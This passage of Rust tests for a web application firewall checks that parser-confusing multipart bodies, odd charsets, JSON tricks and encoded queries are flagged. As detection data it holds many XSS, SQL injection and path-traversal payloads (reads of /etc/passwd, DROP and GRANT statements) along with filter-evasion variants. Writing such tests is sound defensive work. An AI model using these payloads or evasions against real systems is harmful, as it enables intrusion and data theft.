            "--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nok\r\n--B--\r\n--B\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{script}"
        );
        assert_eq!(
            read("multipart/form-data; boundary=B", after_close.as_bytes()),
            Some("xss-script"),
            "PHP reads on"
        );
        // The fourth review's bodies, each split by some parser so that a field holds the attack: none is in the
        // canonical shape, so each is read whole.
        let png_part = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\0";
        let q = |text: &str| {
            format!("--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{text}")
        };
        let cases = [
            ("XyZ", format!("{}\n{png_part}{script}\r\n--XyZ--", q("a"))),
            ("XyZ", format!("{}\r\n--XyZ-x\r\n\0{script}\r\n--XyZ--", q("a"))),
            ("XyZ", format!("{png_part}\r--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n\0{script}")),
            ("XyZ", format!("--XyZ\rContent-Disposition: form-data; name=\"q\"\r\r\0{script}\r\n--XyZ--")),
            ("XyZ", format!("x{}\r\n{png_part}{script}\r\n--XyZ--", q("ok"))),
            ("XyZ; x=\"xboundaryx=AbC\"", format!("{png_part}{script}\r\n--XyZ--")),
            ("\"XyZ Q\"", format!("{png_part}{script}\r\n--XyZ--")),
            ("XyZ", format!("--XyZ\r\nContent-Disposition: form-data; name=\"q\"; filename =\"a.png\"\r\nContent-Type: image/png\r\n\r\n\0{script}")),
            ("XyZ", format!("--XyZ\r\nContent-Disposition: form-data; name=\"q\"; x='; filename=\"a.png\"; y='\r\nContent-Type: image/png\r\n\r\n\0{script}")),
            ("XyZ", format!("--XyZ\r\nContent-Disposition: form-data; name=\"q\"\rX-A: ; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\0{script}")),
        ];
        for (boundary, body) in cases {
            assert_eq!(
                read(
                    &format!("multipart/form-data; boundary={boundary}"),
                    body.as_bytes()
                ),
                Some("xss-script"),
                "{boundary}: {body:?}"
            );
        }
        for header in [
            "Content-Transfer-Encoding: quoted-printable",
            "Content-Type: text/plain; charset=iso-2022-jp",
        ] {
            let body = format!("--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n{header}\r\n\r\n=3Cscript=3E\r\n--XyZ--");
            assert_eq!(
                read("multipart/form-data; boundary=XyZ", body.as_bytes()),
                Some("multipart-encoding"),
                "{header}"
            );
        }
        // Python's requests sends a file part without a type: a file all the same.
        let untyped = b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n\x89PNG\r\n\x1a\n\0\0\0\rIHDR'#\r\n--XyZ--\r\n";
        assert_eq!(
            read("multipart/form-data; boundary=XyZ", untyped),
            None,
            "an untyped file"
        );
        let mut tar = b"notes.txt\0".to_vec();
        tar.resize(257, 0);
        tar.extend_from_slice(b"ustar\x0000");
        for content in [
            &b"SQLite format 3\0\x10\0\x01\x01"[..],
            b"\x7fELF\x02\x01\x01\0\0",
            b"MZ\x90\0\x03\0",
            b"\xfd7zXZ\0\0\x04",
            &tar,
        ] {
            let body = [
                &b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x\"\r\n\r\n"[..],
                content,
                b"\r\n--XyZ--\r\n",
            ]
            .concat();
            assert_eq!(
                read("multipart/form-data; boundary=XyZ", &body),
                None,
                "an untyped {content:?}"
            );
        }
        // The fifth review: shapes parsers still split otherwise are read whole; real clients' uploads pass.
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR'#";
        let file_part = |disposition: &str, extra: &str, content: &[u8]| {
            [
                format!("--XyZ\r\nContent-Disposition: form-data; {disposition}\r\n{extra}\r\n")
                    .as_bytes(),
                content,
                b"\r\n",
            ]
            .concat()
        };
        let attack = b"\x0c<script>prompt(1)</script>";
        for (content_type, body) in [
            (
                "XyZ",
                [
                    file_part(
                        "name=\"q\"; filename=\"=?utf-8?B??=\"",
                        "Content-Type: image/png\r\n",
                        attack,
                    ),
                    b"--XyZ--".to_vec(),
                ]
                .concat(),
            ),
            (
                "XyZ",
                [
                    file_part("name=\"q\"; filename=\"a.png\"", "", attack),
                    b"--XyZ--".to_vec(),
                ]
                .concat(),
            ),
        ] {
            assert_eq!(
                read(
                    &format!("multipart/form-data; boundary={content_type}"),
                    &body
                ),
                Some("xss-script"),
                "{body:?}"
            );
        }
        let renamed = |boundary: &str| {
            let body = [
                file_part(
                    "name=\"f\"; filename=\"a.png\"",
                    "Content-Type: image/png\r\n",
                    png,
                ),
                b"--XyZ--".to_vec(),
            ]
            .concat();
            read(&format!("multipart/form-data; boundary={boundary}"), &body)
        };
        assert_eq!(renamed("XyZ"), None, "the canonical upload");
        for boundary in ["a=b", " XyZ", "XyZ ", "x?y"] {
            assert!(
                renamed(boundary).is_some(),
                "{boundary:?}: read as text, its NUL found"
            );
        }
        for (client, body) in [
            (
                "an empty second file input",
                [
                    file_part(
                        "name=\"f\"; filename=\"a.png\"",
                        "Content-Type: image/png\r\n",
                        png,
                    ),
                    file_part(
                        "name=\"g\"; filename=\"\"",
                        "Content-Type: application/octet-stream\r\n",
                        b"",
                    ),
                    b"--XyZ--\r\n".to_vec(),
                ]
                .concat(),
            ),
            (
                "OkHttp",
                [
                    file_part(
                        "name=\"f\"; filename=\"a.png\"",
                        "Content-Type: image/png\r\nContent-Length: 18\r\n",
                        png,
                    ),
                    b"--XyZ--".to_vec(),
                ]
                .concat(),
            ),
            (
                "Apache HttpClient",
                [
                    file_part(
                        "name=\"f\"; filename=\"a.png\"",
                        "Content-Type: image/png\r\nContent-Transfer-Encoding: binary\r\n",
                        png,
                    ),
                    b"--XyZ--".to_vec(),
                ]
                .concat(),
            ),
            (
                ".NET's MultipartFormDataContent",
                [
                    file_part(
                        "name=file; filename=a.png; filename*=utf-8''a.png",
                        "Content-Type: image/png\r\n",
                        png,
                    ),
                    file_part(
                        "name=photo; filename=\"my photo.png\"; filename*=utf-8''my%20photo.png",
                        "Content-Type: image/png\r\n",
                        png,
                    ),
                    file_part(
                        "name=purpose",
                        "Content-Type: text/plain; charset=utf-8\r\n",
                        b"O'Brien's vision",
                    ),
                    b"--XyZ--\r\n".to_vec(),
                ]
                .concat(),
            ),
        ] {
            assert_eq!(
                read("multipart/form-data; boundary=XyZ", &body),
                None,
                "{client}"
            );
        }
        // .NET's shape still has its fields read, and nothing near it passes as a file.
        let net_field = [
            file_part(
                "name=file; filename=a.png; filename*=utf-8''a.png",
                "Content-Type: image/png\r\n",
                png,
            ),
            file_part(
                "name=purpose",
                "Content-Type: text/plain; charset=utf-8\r\n",
                b"<script>prompt(1)</script>",
            ),
            b"--XyZ--\r\n".to_vec(),
        ]
        .concat();
        assert_eq!(
            read("multipart/form-data; boundary=\"XyZ\"", &net_field),
            Some("xss-script")
        );
        for (disposition, extra) in [
            (
                "name=q; filename*=utf-8''a.png",
                "Content-Type: image/png\r\n",
            ),
            (
                "name=q; filename=\"\"; filename*=utf-8''a.png",
                "Content-Type: image/png\r\n",
            ),
            (
                "name=q; filename=a.png; filename*=iso-8859-1''a.png",
                "Content-Type: image/png\r\n",
            ),
            (
                "name=q; filename=a.png; filename*=utf-8''",
                "Content-Type: image/png\r\n",
            ),
            (
                "name=q; filename=a.png; filename*=utf-8''a;b",
                "Content-Type: image/png\r\n",
            ),
            (
                "name=q; filename=a.png; filename*=\"utf-8''a.png\"",
                "Content-Type: image/png\r\n",
            ),
            (
                "name=q; filename=a.png; filename*=utf-8''a.png; x=1",
                "Content-Type: image/png\r\n",
            ),
            ("name='q'; filename='a.png'", "Content-Type: image/png\r\n"),
            ("name=q;filename=a.png", "Content-Type: image/png\r\n"),
            ("name=q a; filename=a.png", "Content-Type: image/png\r\n"),
            (
                "name=q; filename=a.png",
                "Content-Type: image/png; charset=utf-16\r\n",
            ),
            (
                "name=q; filename=a.png",
                "Content-Type: image/png; name=x\r\n",
            ),
            (
                "name=q; filename=a.png",
                "Content-Type: image/png;charset=utf-8\r\n",
            ),
        ] {
            let body = [
                file_part(disposition, extra, b"\x89PNG\x0c<script>prompt(1)</script>"),
                b"--XyZ--".to_vec(),
            ]
            .concat();
            assert!(
                read("multipart/form-data; boundary=XyZ", &body).is_some(),
                "{disposition} {extra}: read as text, the attack found"
            );
        }
        // The sixth review: a length that is not the part's own, and a transfer encoding with a blank before the colon.
        let hidden = [
            file_part("name=\"a\"", "Content-Length: 200\r\n", b"hello"),
            file_part(
                "name=\"f\"; filename=\"a.png\"",
                "Content-Type: image/png\r\n",
                b"\x89PNG\x0c<script>prompt(1)</script>",
            ),
            b"--XyZ--".to_vec(),
        ]
        .concat();
        assert_eq!(
            read("multipart/form-data; boundary=XyZ", &hidden),
            Some("xss-script"),
            "a length past its part"
        );
        for header in [
            "Content-Transfer-Encoding : base64",
            "content-transfer-encoding\t:base64",
        ] {
            let body = format!("--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n{header}\r\n\r\nPHNjcmlwdD4=\r\n--XyZ--");
            assert_eq!(
                read("multipart/form-data; boundary=XyZ", body.as_bytes()),
                Some("multipart-encoding"),
                "{header}"
            );
        }
    }

    #[test]
    fn a_body_in_a_charset_frameworks_decode_by_is_refused() {
        let c = config();
        let utf7 = b"+ADw-script+AD4-prompt(1)+ADw-/script+AD4-";
        let multipart = [
            &b"--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n"[..],
            utf7,
            b"\r\n--XyZ--\r\n",
        ]
        .concat();
        for (content_type, body) in [
            (
                "multipart/form-data; boundary=XyZ; charset=utf-7",
                &multipart[..],
            ),
            (
                "application/x-www-form-urlencoded; charset=utf-7",
                &b"q=%2BADw-script%2BAD4-prompt(1)%2BADw-/script%2BAD4-"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset=\"cp037\"",
                &b"q=\x4c"[..],
            ),
            ("application/json;CHARSET = utf-16", &b"{}"[..]),
            ("text/plain; charset= UTF-7", &b"hi"[..]),
            // RFC 2231 forms and blanks Python's readers strip (the fourth review).
            (
                "application/x-www-form-urlencoded; charset*=utf-7",
                &b"q=1"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset*=utf-8''utf-7",
                &b"q=1"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset*0=utf-7",
                &b"q=1"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset\u{a0}=utf-7",
                &b"q=1"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset\u{b}=utf-7",
                &b"q=1"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset=\u{a0}utf-7",
                &b"q=1"[..],
            ),
            ("text/plain; charset=iso-8859-17", &b"hi"[..]),
            ("text/plain; charset=shift_jis", &b"hi"[..]),
            // Punctuation decoders drop (the fifth review): the value is judged whole.
            (
                "application/x-www-form-urlencoded; charset=!utf-7",
                &b"q=1"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset=\\utf-7",
                &b"q=1"[..],
            ),
            (
                "application/x-www-form-urlencoded; charset=\"\\utf-7\"",
                &b"q=1"[..],
            ),
            ("text/plain; charset=.utf7", &b"hi"[..]),
            ("text/plain; charset=~utf-16le", &b"hi"[..]),
            ("text/plain; charset=|cp037", &b"hi"[..]),
            ("text/plain; charset=/utf-7", &b"hi"[..]),
            ("text/plain; charset=\u{aa}utf-7", &b"hi"[..]),
            ("text/plain; charset=utf-8!utf-7", &b"hi"[..]),
            // Punctuation before the name (the sixth review).
            ("text/plain; charset=,utf-7", &b"hi"[..]),
            ("text/plain; charset= ,utf-7", &b"hi"[..]),
            ("text/plain; charset=\",utf-7\"", &b"hi"[..]),
            ("text/plain; charset=\";utf-7\"", &b"hi"[..]),
            ("text/plain; charset=\" ;utf-16\"", &b"hi"[..]),
            ("text/plain; charset='',utf-7", &b"hi"[..]),
            ("text/plain; charset=\"\",utf-7", &b"hi"[..]),
            ("text/plain; charset=\",cp037\"", &b"hi"[..]),
            ("text/plain; charset=\"utf-8\\\"utf-7\"", &b"hi"[..]),
            // An odd quote makes Python read past the ; (the seventh review).
            (
                "multipart/form-data; boundary=XyZ; charset=!\";utf-7",
                &b"hi"[..],
            ),
            (
                "multipart/form-data; boundary=XyZ; charset=,\";utf-7",
                &b"hi"[..],
            ),
            (
                "multipart/form-data; boundary=XyZ; charset=\"\\\\\";utf-7\"",
                &b"hi"[..],
            ),
        ] {
            assert_eq!(
                inspect_body(&c, Some(content_type), body).map(|h| h.rule),
                Some("body-charset"),
                "{content_type}"
            );
        }
        for content_type in [
            "application/json; charset=utf-8",
            "application/x-www-form-urlencoded; charset=UTF-8",
            "text/plain; charset=\"us-ascii\"",
            "text/plain; charset=ISO-8859-1",
            "text/plain; charset=iso-8859-15",
            "text/plain; charset=windows-1252",
            "text/plain; charset='utf-8'",
            "text/plain; charset=",
            "text/plain; charset=utf-8;",
            "text/plain; charset=\"utf-8\"; format=flowed",
            "text/plain; charset=ISO8859-1",
            "text/plain; charset=KOI8-R",
            "text/html; charset=utf-8; x-note=\"the charset is fine\"",
        ] {
            assert_eq!(
                inspect_body(&c, Some(content_type), b"q=hello"),
                None,
                "{content_type}"
            );
        }
    }

    #[test]
    fn references_decode_as_a_browser_decodes_them() {
        for (text, read) in [
            ("&#60;&#x3C;&#X3c&#0000060;", "<<<<"),
            ("&lt;b&gt;", "<b>"),
            ("&ltb", "<b"),
            ("&colon;&Tab;&NewLine;&lpar;", ":\t\n("),
            (
                "&colon &#; &#x; &; & &unknown; AT&T",
                "&colon &#; &#x; &; & &unknown; AT&T",
            ),
            ("&#0;&#xD800;&#99999999999;", "\u{fffd}\u{fffd}\u{fffd}"),
            ("&amp;lt;", "&lt;"),
        ] {
            assert_eq!(decode_references(text), read, "{text}");
        }
    }

    #[test]
    fn attacks_are_caught_in_path_query_and_bodies() {
        let c = config();
        let queries = [
            ("q=1%27%20OR%20%271%27%3D%271", "sqli-tautology"),
            ("id=1%20UNION%2F**%2FSELECT%20password", "sqli-union"),
            ("id=1%2527%2520or%25201%253D1", "sqli-tautology"),
            ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss-script"),
            ("u=javascript:alert(1)", "xss-scheme"),
            ("x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss-script"),
            ("x=%3Cdiv%20onmouseover%3Dsteal()%3E", "xss-event-handler"),
            ("f=..%2F..%2Fetc%2Fpasswd", "traversal-dotdot"),
            ("f=%252e%252e%252fsecret", "traversal-dotdot"),
            ("id=1;%20DROP%20TABLE%20users", "sqli-stacked"),
            ("t=sleep(5)", "sqli-function"),
        ];
        for (query, rule) in queries {
            let hit = inspect_url(&c, "/api", Some(query));
            let expected_rule = if rule == "xss-script" && query.contains("img") {
                "xss-dom"
            } else {
                rule
            };
            assert_eq!(hit.map(|h| h.rule), Some(expected_rule), "{query}");
        }
        assert_eq!(
            inspect_url(&c, "/files/%2e%2e%2fsecret", None).map(|h| h.part),
            Some("path")
        );
        let form = inspect_body(
            &c,
            Some("application/x-www-form-urlencoded"),
            b"name=x&bio=%3Cscript%3E",
        );
        assert_eq!(form.map(|h| h.rule), Some("xss-script"));
        let json = inspect_body(
            &c,
            Some("application/json"),
            br#"{"q": {"deep": ["admin'--"]}}"#,
        );
        assert_eq!(
            json.map(|h| (h.rule, h.part)),
            Some(("sqli-comment", "body"))
        );
    }

    #[test]
    fn every_string_of_a_json_body_is_inspected_whatever_a_parser_makes_of_it() {
        let c = config();
        let deep = format!(
            "{}\"\\u003cscript\\u003e\"{}",
            "[".repeat(130),
            "]".repeat(130)
        );
        let cases = [
            (
                deep.as_str(),
                "xss-script",
                "nesting past serde's depth limit",
            ),
            (
                r#"{"x":"\udc00","bio":"\u003cscript\u003eprompt(1)\u003c/script\u003e"}"#,
                "xss-script",
                "a lone surrogate",
            ),
            (
                r#"{"a":"<script>alert(1)</script>","a":"ok"}"#,
                "xss-script",
                "the first of duplicate keys",
            ),
            (
                r#"{"q":"1\u0027 or \u00271\u0027=\u00271"}"#,
                "sqli-tautology",
                "escaped quotes",
            ),
            (
                r#"{"q": 1 union select password from users"#,
                "sqli-union",
                "bare words in text no parser takes",
            ),
            (
                r#"{"q": "\ud83d\ude00 <script>"}"#,
                "xss-script",
                "a surrogate pair",
            ),
            (r#"{"cut": "<scr"#, "", "a prefix cut inside a string"),
        ];
        for (body, rule, what) in cases {
            let hit = inspect_body(&c, Some("application/json"), body.as_bytes());
            if rule.is_empty() {
                assert_eq!(hit, None, "{what}");
            } else {
                assert_eq!(hit.map(|h| h.rule), Some(rule), "{what}: {body:.60}");
            }
        }
        assert_eq!(
            json_strings(r#"{"k\"ey":"\ud83d\ude00\n","x":[1,"\u00e9"]}"#).0,
            ["k\"ey", "\u{1f600}\n", "x", "é"]
        );
    }

    /// A JSON array of strings is one value to an origin that builds a string of it — JavaScript's template string
    /// and `String(…)` join it with `,`, as they join qs's `id[0]=…&id[1]=…`, which the query and form readings
    /// join — so its strings are also read joined: `["1 union/*", "*/select …"]` is `1 union/*,*/select …`.
    #[test]
    fn a_json_array_of_strings_is_also_read_joined() {
        let c = config();
        for body in [
            r#"{"id":["1 union/*","*/select password from users"]}"#,
            r#"{"id": [ "1 union/*" ,
                "*/select password from users" ]}"#,
            r#"[["x"], ["1 union/*", "*/select password from users"]]"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()).map(|h| h.rule),
                Some("sqli-union"),
                "{body}"
            );
        }
        for body in [
            r#"{"tags":["union","select","from"]}"#,
            r#"{"names":["O'Brien","D'Angelo","O'Neil"]}"#,
            r#"{"a":"1 union/*","b":"*/select password from users"}"#,
            r#"{"a":["1 union/*"],"b":["*/select password from users"]}"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()),
                None,
                "{body}"
            );
        }
    }

    /// JavaScript makes a string of the whole array, its numbers, `true`/`false` and nested arrays included
    /// (`String(["1 union/*", 0, "*/select …"])` is `1 union/*,0,*/select …`, `String([["a"], ["b"]])` is `a,b`, a
    /// `null` an empty element): a run of strings broken by any of those was read string by string, and an attack
    /// split around a number — still SQL — passed.
    #[test]
    fn a_json_array_is_read_joined_across_its_numbers_literals_and_nested_arrays() {
        let c = config();
        for body in [
            r#"{"id":["1 union/*",0,"*/select password from users"]}"#,
            r#"{"id":["1 union/*", null, true, "*/select password from users"]}"#,
            r#"{"id":[["1 union/*"],["*/select password from users"]]}"#,
            r#"{"id":["1 union/*",[-1.5e3],"*/select password from users"]}"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()).map(|h| h.rule),
                Some("sqli-union"),
                "{body}"
            );
        }
        for body in [
            r#"{"a":["1 union/*"],"n":0,"b":["*/select password from users"]}"#,
            r#"[{"a":"1 union/*"},{"a":"*/select password from users"}]"#,
            r#"{"tags":["union",1,"select",2,"from"]}"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()),
                None,
                "{body}"
            );
        }
    }

    #[test]
    fn sql_comments_are_removed_before_matching_and_versioned_ones_kept_as_sql() {
        assert_eq!(
            without_sql_comments("union/*x*/select/**/1", false).unwrap(),
            "union select 1"
        );
        assert_eq!(
            without_sql_comments("union/*!50000select*/ pw", false).unwrap(),
            "union select  pw"
        );
        assert_eq!(
            without_sql_comments("a /* open", false).unwrap(),
            "a /* open"
        );
        assert_eq!(
            without_sql_comments("'x/*' union#x\nselect", false).unwrap(),
            "'x/*' union \nselect",
            "an unclosed /* leaves the line comments after it to be removed"
        );
        let c = config();
        for query in [
            "id=1%20UNION/*x*/SELECT%20pw%20FROM%20users",
            "id=1%20UNION/*!50000SELECT*/pw%20FROM%20users",
            "id=1+and+'x/*'+union%23x%0Aselect+password+from+users",
            "id=1+and+%22/*%22+union%23x%0Aselect+password+from+users",
            "id=1+and+'x/*'+union--+x%0Aselect+password+from+users",
        ] {
            assert!(inspect_url(&c, "/api", Some(query)).is_some(), "{query}");
        }
    }

    #[test]
    fn prose_that_only_resembles_a_signature_passes() {
        let c = config();
        for text in [
            "q=price%3C10+and+onsale%3Dtrue",
            "q=retrieval(s)+of+records",
            "q=fell+asleep(again)",
            "q=myalert(1)+is+a+function+name",
            "q=Thanks%3B+update+me+later",
            "q=Thanks%3B+update+settings+when+you+can",
            "q=I+need+sleep(8h)+tonight",
            "q=sleep(10+min)",
            "q=the+benchmark(s)+we+ran",
            "q=pick+1+or+2%3D3+options",
            "q=x+or+y%3Dy",
            "q=%EF%BC%88%E6%A0%AA%EF%BC%89%EF%BC%A1%EF%BC%A2%EF%BC%A3%EF%BC%81",
            "q=AT%26amp%3BT+%26copy%3B+2026",
            "q=Tom+%26+Jerry+%26amp%3B+friends",
            "q=Truth+table%3A+1+AND+1+%3D+1%2C+1+AND+0+%3D+0",
            "q=Merged%3B+update+to+v2+(see+%23123)",
            "q=Thanks%3B+update+coming+soon+--+Bob",
            "q=Done%3B+update+the+docs.%0A%0A%23+Next+steps",
            "q=Thanks%3B+update+me+when+it%27s+done%3B+we+set+off+at+noon",
            "q=if+(n+%3E+0+%26%26+n+%3D%3D+n)",
            "q=%E3%81%9D%E3%81%97%E3%81%A6%EF%BC%8E%EF%BC%8E%EF%BC%8E%EF%BC%8F%E6%AC%A1",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(text)), None, "{text}");
        }
        for (text, rule) in [
            (
                "q=%3Cimg+src%3Dx+onerror%3Dprompt(1)%3E",
                "xss-event-handler",
            ),
            ("q=%3Ca+href%3Dx+onclick%3Dprompt(1)", "xss-event-handler"),
            ("q=eval(atob('x'))", "xss-dom"),
            ("q=1;eval(x)", "xss-dom"),
            ("q=1+AND+sleep(5)", "sqli-function"),
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(text)).map(|h| h.rule),
                Some(rule),
                "{text}"
            );
        }
    }

    #[test]
    fn an_event_handler_after_a_quoted_gt_is_found() {
        // <img src=">" onerror=prompt(1)>: the first `>` is inside a quoted value; browsers run onerror.
        let q = "q=%3Cimg+src%3D%22%3E%22+onerror%3Dprompt(1)%3E";
        assert_eq!(
            inspect_url(&config(), "/api", Some(q)).map(|h| h.rule),
            Some("xss-event-handler")
        );
    }

    #[test]
    fn sql_comment_markers_outside_sql_comments_hide_nothing() {
        let c = config();
        // HTML has no /* */ comments: <img src=x /*/onerror=prompt(1)//*/> runs prompt(1).
        let q = "q=%3Cimg+src%3Dx+%2F*%2Fonerror%3Dprompt(1)%2F%2F*%2F%3E";
        assert_eq!(
            inspect_url(&c, "/api", Some(q)).map(|h| h.rule),
            Some("xss-event-handler"),
            "{q}"
        );
        // In SQL "/*" inside a string literal opens no comment: 0' and "/*"="/*" union select … -- */
        let q = "id=0'+and+%22%2F*%22%3D%22%2F*%22+union+select+password+from+users--+*%2F";
        assert_eq!(
            inspect_url(&c, "/api", Some(q)).map(|h| h.rule),
            Some("sqli-union"),
            "{q}"
        );
    }

    #[test]
    fn a_keyword_glued_to_a_literal_is_a_keyword() {
        let c = config();
        for q in [
            "id=1e0union+select+password+from+users",
            "id=%5CNunion+select+password+from+users",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(q)).map(|h| h.rule),
                Some("sqli-union"),
                "{q}"
            );
        }
    }

    #[test]
    fn unclosed_tags_are_read_once_each_byte() {
        // 13,107 `<`s and no `>`: read tag by tag to the end, this cost a second of CPU per 64 KiB body.
        let body = "<a on".repeat(64 * 1024 / 5);
        let read: usize = tag_texts(&body).map(str::len).sum();
        assert!(read <= body.len(), "{read} bytes read of {}", body.len());
        assert!(!has_event_handler(&format!("<a {}", "on".repeat(1000))));
        assert!(
            has_event_handler("<a ononon onclick=x>"),
            "an attribute after a run of letters"
        );
        assert_eq!(
            tag_texts("x <b a='>' c> y <i>").collect::<Vec<_>>(),
            ["b a='>' c", "i"],
            "a quoted > does not end a tag"
        );
    }

    #[test]
    fn benign_input_passes() {
        let c = config();
        let texts = [
            "name=O%27Brien",
            "q=Please+select+a+seat+from+the+list",
            "url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1",
            "msg=I+love+this+%F0%9F%98%80%F0%9F%8E%89",
            "q=drop+me+a+line+at+noon",
            "title=Union+Station+select+menu",
            "note=the+ratio+is+1%3A2+or+so",
            "q=C%2B%2B+and+Rust",
            "text=%3Cb%3E+is+bold",
            "path=docs/guide.md",
        ];
        for text in texts {
            assert_eq!(inspect_url(&c, "/api/search", Some(text)), None, "{text}");
        }
        let json = inspect_body(
            &c,
            Some("application/json"),
            r#"{"name": "Seán O'Brien", "note": "select one online option"}"#.as_bytes(),
        );
        assert_eq!(json, None);
        // A link wrapped in five redirect and tracking URLs: five levels of encoding, no attack.
        let mut link = "https://example.com/a?b=c".to_owned();
        for _ in 0..5 {
            let encoded: String =
                percent_encoding::utf8_percent_encode(&link, percent_encoding::NON_ALPHANUMERIC)
                    .to_string();
            link = format!("https://t.example/r?u={encoded}");
        }
        let wrapped = serde_json::json!({ "link": link }).to_string();
        assert_eq!(
            inspect_body(&c, Some("application/json"), wrapped.as_bytes()),
            None
        );
    }

    #[test]
    fn size_rules_and_modes() {
        let c = config();
        assert_eq!(
            inspect_sizes(&c, 20_000, None).map(|h| h.rule),
            Some("size-headers")
        );
        assert_eq!(
            inspect_sizes(&c, 100, Some(11 * 1024 * 1024)).map(|h| h.rule),
            Some("size-body")
        );
        assert_eq!(inspect_sizes(&c, 100, Some(10)), None);
        let off = WafConfig {
            mode: WafMode::Off,
            ..config()
        };
        assert_eq!(inspect_url(&off, "/", Some("q=<script>")), None);
        let only_xss = WafConfig {
            rules: vec![RuleSet::Xss],
            ..config()
        };
        assert_eq!(
            inspect_url(&only_xss, "/", Some("q=' or 1=1")),
            None,
            "rule sets are configurable"
        );
        assert!(WafConfig {
            max_header_bytes: 10,
            ..config()
        }
        .validate()
        .is_err());
    }

    #[test]
    fn evasions_of_the_payload_review_are_caught() {
        let c = config();
        for (query, rule) in [
            // (a) `#` and `--` line comments, to the line's end.
            ("id=1+union%23x%0Aselect+password", "sqli-union"),
            ("id=1+union--%0Aselect+password", "sqli-union"),
            ("id=1+union+%23%0D%0Aall+select+password", "sqli-union"),
            // (b) `(` between union and select.
            ("id=1+union(select+password+from+users)", "sqli-union"),
            ("id=1+union+all(select+password+from+users)", "sqli-union"),
            ("id=1+UNION+DISTINCT+(SELECT+1)", "sqli-union"),
            // (c) MariaDB's executable comments keep their body.
            ("id=1%2F*M!50000union*%2F+select+password", "sqli-union"),
            ("id=1+union%2F*M!all*%2F+select+password", "sqli-union"),
            // (d) a function called with blanks or a comment before its `(`.
            ("t=1+and+sleep+(5)", "sqli-function"),
            ("t=1+and+sleep%2F**%2F(5)", "sqli-function"),
            ("t=benchmark+(5000000%2Cmd5(1))", "sqli-function"),
            ("t=pg_sleep+(5)", "sqli-function"),
            ("t=1+and+sleep%0A(5)", "sqli-function"),
            // (e) a comment after blanks; tautologies in parentheses, by order, or a bare truth.
            ("u=admin'+%23", "sqli-comment"),
            ("u=admin'%09%23", "sqli-comment"),
            ("u='or(1)%3D(1)--+-", "sqli-tautology"),
            ("u='+or+2%3E1--+-", "sqli-tautology"),
            ("u='+or+true%23", "sqli-tautology"),
            ("u='+or+1--", "sqli-tautology"),
            ("u=1'+or+'a'%3C%3E'b", "sqli-tautology"),
            ("u=1'+||+2%3E%3D1+%23", "sqli-tautology"),
            ("id=1+or+1%23", "sqli-tautology"),
            // (f) a value that closes its attribute and adds a handler.
            (
                "q=%22+autofocus+onfocus%3D%22prompt(1)",
                "xss-event-handler",
            ),
            ("q=%22+onmouseover%3D%22prompt(1)", "xss-event-handler"),
            ("q=%22%2Fonfocus%3D%22prompt(1)", "xss-event-handler"),
            ("q=%22onfocus%3Dprompt(1)", "xss-event-handler"),
            (
                "q='+onfocus%3D'prompt(1)'+autofocus+x%3D'",
                "xss-event-handler",
            ),
            (
                "q=%26quot%3B+onmouseover%3D%26quot%3Bprompt(1)",
                "xss-event-handler",
            ),
            // (g) a quote opens a value only after `=`.
            (
                "q=%3Ca+x%22y%3D%22%3E%22+onmouseover%3Dprompt(1)%3E",
                "xss-event-handler",
            ),
            (
                "q=%3Ca+x%3Db%3D%22c+y%3D%22%3E%22+onmouseover%3Dprompt(1)%3E",
                "xss-event-handler",
            ),
            // (h) JSON escapes inside a query value.
            (
                "variables=%7B%22q%22%3A%22%5Cu003cscript%5Cu003eprompt(1)%22%7D",
                "xss-script",
            ),
            // (i) `<base` and `<meta` with `/` or `>` after the name.
            ("q=%3Cbase%2Fhref%3D%2F%2Fevil.example%2F%3E", "xss-script"),
            ("q=%3Cmeta%2Fhttp-equiv%3Drefresh+content%3D0", "xss-script"),
            // (j) the same file behind redundant separators.
            ("f=%2Fetc%2F%2Fpasswd", "traversal-file"),
            ("f=%2Fetc%2F.%2Fpasswd", "traversal-file"),
            ("f=%2Fetc%2F.%2F%2F.%2Fshadow", "traversal-file"),
            ("f=%2Fproc%2F%2Fself%2Fenviron", "traversal-file"),
            // (k) statements that were not listed.
            ("id=1%3B+drop+database+shop", "sqli-stacked"),
            ("id=1%3B+drop+temporary+table+t", "sqli-stacked"),
            ("id=1%3B+truncate+table+users", "sqli-stacked"),
            ("id=1%3B+truncate+users%3B", "sqli-stacked"),
            ("id=1%3B+exec('xp_x')", "sqli-stacked"),
            ("id=1%3B+execute+sp_addlogin+'x'", "sqli-stacked"),
            ("id=1%3B+execute+immediate+'x'", "sqli-stacked"),
            (
                "id=1%3B+grant+all+privileges+on+*.*+to+'x'%40'%25'",
                "sqli-stacked",
            ),
            ("id=1%3B+grant+dba+to+scott", "sqli-stacked"),
            ("id=1%3B+grant+create+session+to+x", "sqli-stacked"),
            ("id=1%3B+alter+user+root+identified+by+'x'", "sqli-stacked"),
